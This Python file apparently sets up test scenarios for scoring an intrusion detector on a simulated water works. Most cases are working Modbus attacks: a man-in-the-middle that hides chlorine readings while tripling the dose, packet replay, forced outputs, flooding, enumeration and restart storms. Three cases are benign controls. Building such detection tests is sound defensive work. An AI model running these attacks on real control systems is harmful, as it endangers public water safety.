"""What happens in the water works."""

from __future__ import annotations

import contextlib
import socket
import struct
import time

from devices import units
from devices.units import Outcome, Peer, Unit, whole
from lab.case import Score
from lab.host import Host
from lab.middle import stand_between
from lab.network import Context
from lab.power import run_until
from plants import waterworks
from plants.waterworks import DOSE, GATEWAY

LEAD, LASTS = 80, 200
LAPTOP = Host("laptop", "10.61.1.166", "a0:36:9f:0e:66:a6", "Intel", prefix=24, via=GATEWAY)


def _new_client(context: Context) -> None:
    context.wait_until(LEAD + 2)
    peer = Peer(context, context.ip("dosing"))
    context.happened(
        "dosing",
        "read",
        "A machine new to the plant reads the dosing station's set-points",
        ["T0861"],
        "writes",
    )
    peer.holding(0, 5)
    context.wait_until(LEAD + 12)
    for value in (124, 116, 127):
        context.happened(
            "dosing",
            "write",
            f"Sets the dose to {value}, which is within what is usual",
            ["T1692.001"],
            "writes",
        )
        peer.set(DOSE, value)
        time.sleep(20)


def _replay(context: Context) -> None:
    """Sends the panel's own octets again, from a machine behind the gateway."""
    context.wait_until(LEAD + 3)
    recorded = [
        struct.pack(">HHHBBHH", turn, 0, 6, 1, 6, DOSE, value)
        for turn, value in ((713, 118), (825, 129), (940, 112))
    ]
    with socket.create_connection((context.ip("dosing"), 502), 5) as connection:
        for request in recorded:
            context.happened(
                "dosing",
                "write",
                "Replays a recorded write of the panel, value in band, from the office",
                ["T1692.001"],
                "replay",
            )
            connection.sendall(request)
            connection.recv(256)
            time.sleep(15)


def _man_in_the_middle(context: Context) -> None:
    """Shows the panel a steady chlorine value while the dose that the operator sets is raised."""
    context.wait_until(LEAD + 2)

    def show_steady(octets: bytes) -> bytes:
        if len(octets) >= 13 and octets[7] == 4 and octets[8] == 10:
            return octets[:9] + struct.pack(">H", 478) + octets[11:]
        return octets

    def raise_dose(octets: bytes) -> bytes:
        if len(octets) == 12 and octets[7] == 6:
            return octets[:10] + struct.pack(">H", min(65535, 3 * struct.unpack(">H", octets[10:12])[0]))
        return octets

    text = "Claims the addresses of panel and dosing station by ARP and stands between them"
    context.happened("hmi", "other", text, ["T0830"], "middle")
    context.happened(
        "dosing",
        "report",
        "Alters what controller and panel tell each other",
        ["T0830", "T1692.002"],
        "middle",
    )
    stand_between(context, "hmi", "dosing", 100, show_steady, raise_dose)


def _force_coils(context: Context) -> None:
    context.wait_until(LEAD + 4)
    peer = Peer(context, context.ip("intake"))
    context.happened("intake", "operate", "Switches the pump's release off", ["T1692.001"], "coils")
    peer.switch(0, False)
    time.sleep(4)
    context.happened("intake", "operate", "Forces four outputs at once", ["T1692.001", "T0835"], "coils")
    peer.ask("write_coils", 0, [False, False, True, False])
    time.sleep(20)
    for _ in range(10):
        peer.switch(0, False)
        time.sleep(1)


def _flood(context: Context) -> None:
    context.wait_until(LEAD + 5)
    context.happened(
        "booster", "other", "Floods the controller with connections and requests", ["T0814"], "flood"
    )
    request = struct.pack(">HHHBBHH", 1, 0, 6, 1, 4, 0, 12)
    end = context.now + 12
    while context.now < end:
        with contextlib.suppress(OSError), socket.socket() as probe:
            probe.settimeout(0.2)
            probe.connect((context.ip("booster"), 502))
            probe.sendall(request * 8)
        time.sleep(0.03)


def _enumerate(context: Context) -> None:
    """Reads everything that can be read, and asks for every function code there might be."""
    context.wait_until(LEAD + 3)
    peer = Peer(context, context.ip("booster"))
    context.happened("booster", "identify", "Reads the device identification", ["T0888"], "mapping")
    peer.identify()
    context.happened(
        "booster",
        "read",
        "Maps all registers, block by block, far beyond those there are",
        ["T0861"],
        "mapping",
    )
    for kind in ("holding", "inputs", "coils", "discretes"):
        for start in range(0, 400, 8):
            getattr(peer, kind)(start, 8)
            time.sleep(0.02)
    time.sleep(4)
    context.happened("booster", "other", "Tries one function code after the other", ["T0888"], "mapping")
    with socket.create_connection((context.ip("booster"), 502), 5) as connection:
        connection.settimeout(0.4)
        for code in (7, 8, 11, 12, 17, 20, 24, *range(65, 73), 90, 100, 125):
            connection.sendall(struct.pack(">HHHBBHH", code, 0, 6, 1, code, 0, 0))
            with contextlib.suppress(TimeoutError):
                connection.recv(512)
            time.sleep(0.1)


def _restart_storm(context: Context) -> None:
    context.wait_until(LEAD + 3)
    peer = Peer(context, context.ip("intake"))
    for turn in range(8):
        context.happened(
            "intake",
            "reset",
            f"Restarts the controller's communications, time {turn + 1}",
            ["T0816", "T0814"],
            "restarts",
        )
        peer.ask("diag_restart_communication", False)
        time.sleep(5)


def _drifting(context: Context) -> None:
    """A dosing station whose chlorine analyser ages, and so shows a little more each minute."""
    chance, state = (
        context.random,
        {"chlorine": 480.0, "tank": 1450.0, "flow": 120.0, "ph": 742.0, "off": 0.0},
    )

    def step(holding: list[int], coils: list[bool]) -> Outcome:
        wanted = holding[DOSE] * coils[0]
        state["off"] += 0.12 * (context.now > LEAD)
        state["flow"] += 0.3 * (wanted - state["flow"]) + chance.gauss(0, 0.6)
        state["chlorine"] += 0.03 * (4 * state["flow"] - state["chlorine"]) + chance.gauss(0, 1.5)
        state["tank"] -= state["flow"] / 9000
        state["ph"] += 0.05 * (742 - state["ph"]) + chance.gauss(0, 0.4)
        shown = state["chlorine"] + state["off"]
        inputs = whole(shown, state["flow"], state["tank"], state["ph"], 131 + chance.gauss(0, 1))
        return Outcome(inputs, [coils[0], shown > holding[2], state["tank"] < 300, False])

    units.serve(context, {1: Unit([120, 500, 700, 200, 1], [True, False, False, True], 64, step)})


def _restarted_panel(context: Context) -> None:
    run_until(context, waterworks.hmi, LEAD + 5)
    context.wait_until(LEAD + 40)
    waterworks.hmi(context, LEAD + 45)


def _maintain(context: Context) -> None:
    """The engineer tunes the dosing station under a work order: reads, writes limits, tries an output."""
    context.wait_until(LEAD + 2)
    peer = Peer(context, context.ip("dosing"))
    peer.identify()
    peer.holding(0, 32)
    for value in (720, 690, 700):
        peer.set(2, value)
        time.sleep(12)
        peer.holding(0, 8)
    peer.switch(1, True)
    time.sleep(5)
    peer.switch(1, False)
    peer.hang_up()


_SITE = """\
site: Water works
assets:
- {ip: 10.61.1.11, name: Dosing PLC, role: plc}
- {ip: 10.61.1.50, name: WW-ENG1, role: engineering_workstation}
schedule:
  maintenance:
  - from: "{begin}"
    to: "{end}"
    name: Chlorine dosing, limits checked and relief valve tried
    work_order: WO-2026-1187
    who: Chen Jie
    assets: [Dosing PLC]
    sources: [WW-ENG1]
"""


def _panel_overdoses(context: Context) -> None:
    waterworks.hmi(context, also=((LEAD + 6, "overdose"), (LEAD + 40, "overdose")))


_SCORE = Score("score/waterworks", waterworks, LEAD, LASTS, (LAPTOP,))

CASES = (
    _SCORE.case(
        "new-client-writes",
        "A machine new to the plant writes set-points, all within their band.",
        101,
        "laptop",
        _new_client,
    ),
    _SCORE.case(
        "overdose-from-panel",
        "The operator's own panel sets eight times the usual dose.",
        102,
        instead={"hmi": _panel_overdoses},
    ),
    _SCORE.case(
        "replay-from-office",
        "A machine behind the gateway replays the panel's writes.",
        103,
        "office",
        _replay,
    ),
    _SCORE.case(
        "man-in-the-middle",
        "A laptop stands between panel and dosing station and alters values.",
        104,
        "laptop",
        _man_in_the_middle,
    ),
    _SCORE.case("coils-forced", "A laptop switches outputs of the intake.", 105, "laptop", _force_coils),
    _SCORE.case("flood", "A laptop floods the booster station's controller.", 106, "laptop", _flood),
    _SCORE.case(
        "registers-mapped",
        "A laptop maps the registers and functions of the booster station.",
        107,
        "laptop",
        _enumerate,
    ),
    _SCORE.case(
        "restart-storm",
        "A laptop restarts a controller's communications again and again.",
        108,
        "laptop",
        _restart_storm,
    ),
    _SCORE.case(
        "analyser-drifts",
        "Harmless: an analyser ages and shows a little more each minute.",
        109,
        instead={"dosing": _drifting},
    ),
    _SCORE.case(
        "panel-restarted",
        "Harmless: the panel is switched off and on.",
        110,
        instead={"hmi": _restarted_panel},
    ),
    _SCORE.case(
        "limits-maintained",
        "Harmless: an engineer works on the dosing station under a work order.",
        111,
        "engineering",
        _maintain,
        site=_SITE,
    ),
)
